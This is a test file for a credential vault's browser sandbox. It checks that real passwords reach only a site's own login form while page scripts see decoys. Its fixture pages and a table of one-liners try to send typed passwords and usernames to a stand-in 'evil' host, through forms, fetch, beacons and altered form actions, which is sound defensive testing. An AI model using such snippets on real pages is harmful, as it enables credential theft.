import { inflateSync } from 'node:zlib';
import type { Operation } from '@countersign/protocol/vault/operation';
import { parseAllowedUrls } from '@countersign/protocol/vault/url-scope';
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { browserFor, type OpenedBrowser, secretOf, type Site, siteOf } from '../../../test/chromium.ts';
import type { Text } from './browser.ts';

const name = 'ada.lovelace@example.org';
const word = 'Tr0ub4dor&3 "x"';
const usual = /^[A-Z][a-z][2-9][-_.!*][A-Za-z2-9]{12}$/;
const button = '<button id="send">Send</button>';
const password = '<input name="pass" type="password">';

const pages: Record<string, (at: { evil: string; port: string }) => string> = {
  // With a picture of its own, so that the browser asks for none.
  '/login': () =>
    `<link rel="icon" href="data:,"><form method="post" action="/session"><input name="user">${password}${button}</form>`,
  '/fetch':
    () => `<form id="f"><input name="user" type="email">${password}${button}</form><p id="answer"></p><script>
    f.onsubmit = async (event) => { event.preventDefault();
      const r = await fetch('/api', {method: 'POST', headers: {'content-type': 'application/json'},
        body: JSON.stringify({login: f.user.value, password: f.pass.value, keep: true})});
      answer.textContent = await r.text(); }</script>`,
  '/own-names': ({ evil }) => `<form id="f"><input name="user">${password}${button}</form><script>
    f.onsubmit = async (event) => { event.preventDefault();
      const send = (to, body) => fetch(to, {method: 'POST', mode: 'no-cors', body: new URLSearchParams(body)});
      await send('${evil}/x', {q7: f.user.value}).catch(() => {});
      await send('/api', {q7: f.user.value});
      await send('/said', {user: f.user.value});
      if (f.pass.value) await send('/api', {q8: f.pass.value}).catch(() => {});
      document.title = 'sent'; }</script>`,
  '/copying': () => `<form method="post" action="/session" onsubmit="this.email.value = this.user.value">
    <input name="user"><input type="hidden" name="email">${button}</form>`,
  '/first': () => `<form method="post" action="/second"><input name="user">${button}</form>`,
  '/new': () => `<form method="post" action="/session"><input id="a" name="one" type="password">
    <input id="b" name="two" type="password">${button}</form>`,
  '/parts': () =>
    `<form method="post" action="/session" enctype="multipart/form-data">${password}${button}</form>`,
  '/out': ({ evil }) => `<form method="post" action="${evil}/x">${password}</form>`,
  '/out-button': ({ evil }) =>
    `<form method="post" action="/session">${password}<button formaction="${evil}/x">x</button></form>`,
  '/get': () => `<form method="get" action="/session">${password}</form>`,
  '/honeypot': () =>
    `<form method="post" action="/session"><input name="trap" style="position:absolute;left:-9999px"></form>`,
  '/closed': () => `<div id="host"></div><script>host.attachShadow({mode: 'closed'}).innerHTML =
    '<form method=post action=/session><input name=pass type=password><button id=send>Send</button></form>'</script>`,
  '/open': () => `<div id="host"></div><script>host.attachShadow({mode: 'open'}).innerHTML =
    '<form method=post action=/session><input name=pass type=password><button id=send>Send</button></form>'</script>`,
  '/frame': () => '<h1>Around</h1><iframe src="/login" style="margin: 70px"></iframe>',
  '/overlaid': () => `<iframe src="/login" style="width: 400px"></iframe>
    <div style="position: fixed; inset: 0; background: #fff; opacity: 0.01"></div>`,
  '/foreign': ({ port }) =>
    `<h1>Around</h1><iframe src="http://localhost:${port}/login" style="margin: 90px; width: 400px"></iframe>`,
  '/again': () => `<form method="post" action="/repeat">${password}${button}</form>`,
  '/typed': () =>
    `<input name="pass" type="password" oninput="this.oninput = null; fetch('/api', { method: 'POST', body: btoa(this.value) })">`,
  '/socket': () => `<input name="pass" type="password"><button id="send">x</button>`,
  '/strength': () =>
    `<form method="post" action="/session"><input name="user">${password}${button}</form><script>
    const pass = document.querySelector('[name=pass]'), json = {'content-type': 'application/json'};
    pass.oninput = () => fetch('/api/strength', {method: 'POST', body: new URLSearchParams({candidate: pass.value})});
    pass.onblur = () => fetch('/api/validate', {method: 'POST', headers: json, body: JSON.stringify({password: pass.value})});
    pass.onchange = () => navigator.sendBeacon('/api/replay', JSON.stringify({value: pass.value}));</script>`,
  '/leaking': ({ port }) =>
    `<form method="post" action="/session">${password}${button}</form><script>
    const pass = document.querySelector('[name=pass]');
    pass.oninput = () => fetch('http://localhost:${port}/api', {method: 'POST', mode: 'no-cors', body: new URLSearchParams({candidate: pass.value})});</script>`,
  '/naming': () =>
    `<form method="post" action="/session">${password}${button}</form><script>
    const pass = document.querySelector('[name=pass]');
    pass.oninput = () => fetch('/api/' + encodeURIComponent(pass.value), {method: 'POST'});</script>`,
  '/hashing': () =>
    `${password}<button id="send" onclick="document.title = document.querySelector('input').value; location = '/other'">x</button>`,
};

let site: Site;
let evil: Site;
let browser: OpenedBrowser;

beforeAll(async () => {
  evil = await siteOf(() => 'evil');
  site = await siteOf(({ method, url, body }) => {
    const posted = new URLSearchParams(body);
    if (url === '/repeat') return { status: 307, headers: { location: '/elsewhere' } };
    if (url === '/second')
      return `<form method="post" action="/session"><input type="hidden" name="user" value="${posted.get('user') ?? ''}">${password}${button}</form>`;
    if (method === 'POST')
      return { headers: { 'content-type': 'text/html' }, body: `<p id="answer">You said ${body}</p>` };
    return pages[url]?.({ evil: evil.url, port: new URL(site.url).port }) ?? '<h1>Other</h1>';
  });
  browser = await browserFor([site.url, site.url.replace('127.0.0.1', 'localhost')]);
});
afterAll(async () => {
  await browser.close();
  await browser.stop();
  await Promise.all([site.stop(), evil.stop()]);
});
beforeEach(() => {
  site.received.length = 0;
  browser.alarms.length = 0;
});

const done = { ok: true, value: null };
const problem = (code: string) => ({ ok: false, error: { code } });
async function run(operation: Operation, value?: Text) {
  await browser.observe(operation);
  const text = value ?? ['value' in operation ? String(operation.value) : ''];
  return browser.perform(operation, text, { kind: 'acts', acts: [] });
}
const go = (path: string) => run({ operation_type: 'navigate', value: site.url + path });
const fill = (selector: string, value: Text) => run({ operation_type: 'fill', selector, value: 'x' }, value);
const click = (selector = '#send') => run({ operation_type: 'click', selector });
const script = (value: string) => run({ operation_type: 'execute_script', value });
const posts = () => site.received.filter(({ method }) => method === 'POST');
const extract = (selector: string) => run({ operation_type: 'extract', selector });

test('the login form of a site receives the secrets; page, script and answer have decoys of their shape [vault.sandbox.decoy.page-sees-decoy] [vault.sandbox.decoy.bound-request] [vault.sandbox.masking.no-read-back] [vault.sandbox.placeholder]', async () => {
  await go('/login');
  expect(await fill('[name=user]', [secretOf(name, { isName: true })])).toEqual(done);
  expect(await fill('[name=pass]', [secretOf(word)])).toEqual(done);
  const read = await script('return [...document.querySelectorAll("input")].map((input) => input.value)');
  const [user, pass] = (read.ok ? read.value : []) as string[];
  expect([user, pass]).not.toContain(name);
  expect(user).toMatch(/^[a-z]{3}\.[a-z]{8}@[a-z]{7}\.[a-z]{3}$/);
  expect(pass).toMatch(usual);
  expect(await click()).toEqual(done);
  expect(posts().map(({ url, body }) => [url, Object.fromEntries(new URLSearchParams(body))])).toEqual([
    ['/session', { user: name, pass: word }],
  ]);
  const answer = await extract('#answer');
  expect(answer).toEqual({
    ok: true,
    value: `You said ${new URLSearchParams({ user: user ?? '', pass: pass ?? '' }).toString()}`,
  });
  expect(browser.alarms).toEqual([]);
});

test('a script of the page sends them by fetch, and hears the decoys back [vault.sandbox.decoy.echo]', async () => {
  await go('/fetch');
  await fill('[name=user]', [secretOf(name, { isName: true })]);
  await fill('[name=pass]', [secretOf(word)]);
  await click();
  await run({ operation_type: 'wait', selector: '#answer:not(:empty)' });
  expect(JSON.parse(posts()[0]?.body ?? '')).toEqual({ login: name, password: word, keep: true });
  const answer = await extract('#answer');
  expect(JSON.stringify(answer)).not.toMatch(/lovelace|Tr0ub/);
  expect(browser.alarms).toEqual([]);
});

test('a form that says no method is one that its page sends; nothing is typed into it itself [vault.sandbox.decoy.form-of-script]', async () => {
  const form = async () =>
    (await browser.observe({ operation_type: 'fill', selector: '[name=pass]', value: 'x' })).target?.form;
  await go('/fetch');
  expect((await form())?.method).toBe('UNSAID');
  expect(await fill('[name=pass]', [secretOf(word, { mode: 'dom' })])).toMatchObject(
    problem('not_permitted'),
  );
  await go('/get');
  expect((await form())?.method).toBe('GET');
});

test('a script tells this site alone the account under any name, and so neither a machine nor a password [vault.sandbox.decoy.bound-request]', async () => {
  const told = async () => {
    await click();
    await expect.poll(() => posts().filter(({ url }) => url === '/said')).toHaveLength(1);
    return posts().map(({ url, body }) => [url, ...new URLSearchParams(body).entries()].flat());
  };
  await go('/own-names');
  await fill('[name=user]', [secretOf(name, { isName: true, isAccount: true })]);
  await fill('[name=pass]', [secretOf(word)]);
  expect(await told()).toEqual([
    ['/api', 'q7', name],
    ['/said', 'user', name],
  ]);
  // Another site hears nothing; under another name than passwords have, theirs is a decoy that has gone astray.
  const scope = { kind: 'scope', url: `${evil.url}/x` };
  await expect
    .poll(() => browser.alarms)
    .toMatchObject([scope, { kind: 'own-site', method: 'POST', url: `${site.url}/api` }]);
  expect(JSON.stringify(evil.received)).not.toMatch(/lovelace/);

  [site.received.length, browser.alarms.length] = [0, 0];
  await go('/own-names');
  await fill('[name=user]', [secretOf('db7.internal.example', { isName: true })]);
  const [[, , host] = [], [, , asField] = []] = await told();
  expect(host).not.toBe('db7.internal.example');
  expect(asField).toBe('db7.internal.example');
  expect(browser.alarms).toMatchObject([scope]);
});

test('a name that was sent alone goes along with the password on the next page', async () => {
  await go('/first');
  await fill('[name=user]', [secretOf(name, { isName: true })]);
  await click();
  expect(await fill('[name=pass]', [secretOf(word)])).toEqual(done);
  await click();
  expect(posts().map(({ body }) => Object.fromEntries(new URLSearchParams(body)))).toEqual([
    { user: name },
    { user: name, pass: word },
  ]);
});

test('a name that the page copies into a second field is sent in both', async () => {
  await go('/copying');
  await fill('[name=user]', [secretOf(name, { isName: true })]);
  await click();
  expect(posts().map(({ body }) => Object.fromEntries(new URLSearchParams(body)))).toEqual([
    { user: name, email: name },
  ]);
  expect(browser.alarms).toEqual([]);
});

test('a new password and its repetition are the same to the page and to the site', async () => {
  await go('/new');
  await fill('#a', [secretOf(word)]);
  await fill('#b', [secretOf(word)]);
  expect(await script('return a.value === b.value')).toEqual({ ok: true, value: true });
  await click();
  expect(Object.fromEntries(new URLSearchParams(posts()[0]?.body))).toEqual({ one: word, two: word });
});

test.each(['/parts', '/open', '/closed', '/frame', '/foreign'])(
  'the form of %s is reached, filled and sent',
  async (path) => {
    await go(path);
    expect(await fill('[name=pass]', [secretOf(word)])).toEqual(done);
    expect(await click()).toEqual(done);
    const sent = posts()[0]?.body ?? '';
    expect(path === '/parts' ? sent : new URLSearchParams(sent).get('pass')).toContain(word);
    expect(browser.alarms).toEqual([]);
  },
);

test('nothing is filled in where it would go astray [vault.sandbox.decoy.within-scope]', async () => {
  const expected = {
    '/out': 'out_of_scope',
    '/out-button': 'out_of_scope',
    '/get': 'not_permitted',
    '/honeypot': 'not_visible',
    '/overlaid': 'not_visible',
  };
  for (const [path, code] of Object.entries(expected)) {
    await go(path);
    const selector = path === '/overlaid' ? '[name=pass]' : 'input';
    expect([path, await fill(selector, [secretOf(word)])]).toMatchObject([path, problem(code)]);
  }
  await go('/login');
  const elsewhere = secretOf(word, { allowedUrls: parseAllowedUrls(['https://shop.example']) });
  expect(await fill('[name=pass]', [elsewhere])).toMatchObject(problem('out_of_scope'));
  for (const operation of [
    { operation_type: 'navigate', value: 'x' },
    { operation_type: 'press', value: 'x' },
  ] as const)
    expect(await run(operation, [secretOf(word)])).toMatchObject(problem('not_permitted'));
});

test.each([
  [
    'a comment on the same site',
    `fetch('/comment', {method: 'POST', body: new URLSearchParams({comment: P})})`,
  ],
  [
    'another address than the form’s',
    `fetch('/other', {method: 'POST', body: new URLSearchParams({pass: P})})`,
  ],
  ['an address', `fetch('/x?' + encodeURIComponent(P))`],
  ['a picture’s address in base64', `new Image().src = '/x?' + btoa(P)`],
  ['a header', `fetch('/x', {headers: {x: P}})`],
  ['a beacon', `navigator.sendBeacon('/x', P)`],
  ['another method', `fetch('/session', {method: 'DELETE', body: new URLSearchParams({pass: P})})`],
  ['a form of another address', `const f = document.forms[0]; f.action = '/other'; f.submit()`],
  ['a field of another name', `const f = document.forms[0]; f.pass.name = 'comment'; f.submit()`],
  [
    'another form that took the field',
    `document.body.insertAdjacentHTML('beforeend', '<form id=other method=post action=/other></form>');
     document.querySelector('[name=pass]').setAttribute('form', 'other'); document.querySelector('#other').submit()`,
  ],
  ['a form that is written as text', `const f = document.forms[0]; f.enctype = 'text/plain'; f.submit()`],
  [
    'a form whose base is another',
    `document.head.insertAdjacentHTML('beforeend', '<base href=/other/>'); const f = document.forms[0];
     f.setAttribute('action', 'session'); f.submit()`,
  ],
  [
    'a button of another address',
    `const f = document.forms[0]; const b = document.createElement('button'); b.formAction = '/other'; f.append(b); f.requestSubmit(b)`,
  ],
  ['the address in another case', `const f = document.forms[0]; f.action = '/Session'; f.submit()`],
  ['the address with a slash more', `const f = document.forms[0]; f.action = '/session/'; f.submit()`],
  ['the address with a query', `const f = document.forms[0]; f.action = '/session?as=comment'; f.submit()`],
  [
    'a second field beside its own',
    `const f = document.forms[0]; f.insertAdjacentHTML('beforeend', '<input name=comment>');
     f.comment.value = P; f.submit()`,
  ],
  ['a form sent by GET', `const f = document.forms[0]; f.method = 'get'; f.submit()`],
])(
  'a decoy in %s is an alarm, and is not sent [vault.sandbox.decoy.alarm] [vault.sandbox.decoy.bound-request]',
  async (_, code) => {
    await go('/login');
    await fill('[name=pass]', [secretOf(word)]);
    site.received.length = 0;
    await script(
      `const P = document.querySelector('[name=pass]').value; ${code}; await new Promise((r) => setTimeout(r, 100))`,
    );
    await expect.poll(() => browser.alarms, { timeout: 5000 }).toMatchObject([{ kind: 'decoy' }]);
    expect(site.received).toEqual([]);
  },
);

test('a page that tells its own site what is typed, to check it or as telemetry, sends nothing of it, and the log-in goes on [vault.sandbox.decoy.own-site]', async () => {
  await go('/strength');
  await fill('[name=user]', [secretOf(name, { isName: true })]);
  await fill('[name=pass]', [secretOf(word)]);
  expect(await click()).toEqual(done);
  expect(posts().map(({ url, body }) => [url, Object.fromEntries(new URLSearchParams(body))])).toEqual([
    ['/session', { user: name, pass: word }],
  ]);
  const told = browser.alarms.map((alarm) => [alarm.kind, new URL(alarm.url).pathname]);
  expect(new Set(told.map(String))).toEqual(
    new Set(['own-site,/api/strength', 'own-site,/api/validate', 'own-site,/api/replay']),
  );
});

test.each(['/leaking', '/naming'])(
  'the same is an alarm where it goes to another origin or stands in the address: %s [vault.sandbox.decoy.alarm]',
  async (path) => {
    await go(path);
    await fill('[name=pass]', [secretOf(word)]);
    await expect.poll(() => browser.alarms.map(({ kind }) => kind)).toContain('decoy');
    expect(posts()).toEqual([]);
  },
);

test('the same is an alarm once a script of the agent had a hand in the page [vault.sandbox.decoy.alarm]', async () => {
  await go('/strength');
  await script('document.title = "mine"');
  await fill('[name=pass]', [secretOf(word)]);
  await expect.poll(() => browser.alarms.map(({ kind }) => kind)).toContain('decoy');
  expect(posts()).toEqual([]);
});

test('a secret is sent once; a redirect that repeats it is stopped [vault.sandbox.decoy.once]', async () => {
  await go('/again');
  await fill('[name=pass]', [secretOf(word)]);
  await click();
  expect(site.received.map(({ url }) => url)).not.toContain('/elsewhere');
  expect(browser.alarms).toMatchObject([{ kind: 'decoy', method: 'POST', url: `${site.url}/repeat` }]);
});

test('in mode dom the page has the secret, and nothing is read until its form has gone [vault.sandbox.decoy.dom-mode]', async () => {
  await go('/hashing');
  expect(await fill('[name=pass]', [secretOf(word, { mode: 'dom' })])).toEqual(done);
  expect(await extract('body')).toMatchObject(problem('held'));
  expect(await script('return 1')).toMatchObject(problem('held'));
  expect(await browser.read(null)).toMatchObject(problem('held'));
  expect(await browser.screenshot(false)).toMatchObject(problem('held'));
  expect(await click()).toEqual(done);
  expect(await extract('h1')).toEqual({ ok: true, value: 'Other' });
});

test.each(['/hashing', '/typed', '/socket'])(
  'a secret that stands in the page itself counts as sent once the page sends something or its button is pressed: %s [vault.review.place.login-form]',
  async (path) => {
    let sent = 0;
    const onSent = () => {
      sent += 1;
    };
    await go(path);
    await fill('[name=pass]', [secretOf(word, { mode: 'dom', onSent })]);
    const atOnce = path === '/typed';
    await expect.poll(() => [posts().length, sent > 0]).toEqual(atOnce ? [1, true] : [0, false]);
    if (!atOnce) await click();
    expect(sent).toBeGreaterThan(0);
    await go('/other');
  },
);

test('fields and texts that hold a decoy are painted over in pictures, of the view and of the whole page [vault.sandbox.masking.screenshots]', async () => {
  await go('/login');
  await fill('[name=user]', [secretOf(name, { isName: true })]);
  await script(`const said = document.createElement('p'); said.id = 'said'; said.style.marginTop = '1500px';
    said.textContent = 'You are ' + document.querySelector('[name=user]').value; document.body.append(said)`);
  const at = await script(`return ['[name=user]', '#said', '#send'].map((one) => {
    const { left, top, width, height } = document.querySelector(one).getBoundingClientRect();
    return [Math.round(left + width / 2), Math.round(top + height / 2)] })`);
  const [field, said, other] = (at.ok ? at.value : []) as [number, number][];
  const whole = await browser.screenshot(true);
  const view = await browser.screenshot(false);
  expect(whole.ok && view.ok && whole.value.height > view.value.height).toBe(true);
  const pixels = whole.ok ? pixelsOf(whole.value.png) : () => [];
  const isPainted = ([x, y]: [number, number] | undefined = [0, 0]) =>
    [-4, 0, 4].every(
      (dx) =>
        pixels(x + dx, y)
          .slice(0, 3)
          .join() === '96,96,96',
    );
  expect([
    isPainted(field),
    isPainted([(said?.[0] ?? 0) > 60 ? 60 : 0, said?.[1] ?? 0]),
    isPainted(other),
  ]).toEqual([true, true, false]);
});

/** Pixels of a picture that was painted: its rows have no filter. */
function pixelsOf(png: Buffer): (x: number, y: number) => number[] {
  const at = png.indexOf('IDAT');
  const rows = inflateSync(png.subarray(at + 4, at + 4 + png.readUInt32BE(at - 4)));
  const bytes = png[25] === 6 ? 4 : 3;
  const stride = png.readUInt32BE(16) * bytes + 1;
  return (x, y) => [...rows.subarray(y * stride + 1 + x * bytes, y * stride + 1 + (x + 1) * bytes)];
}
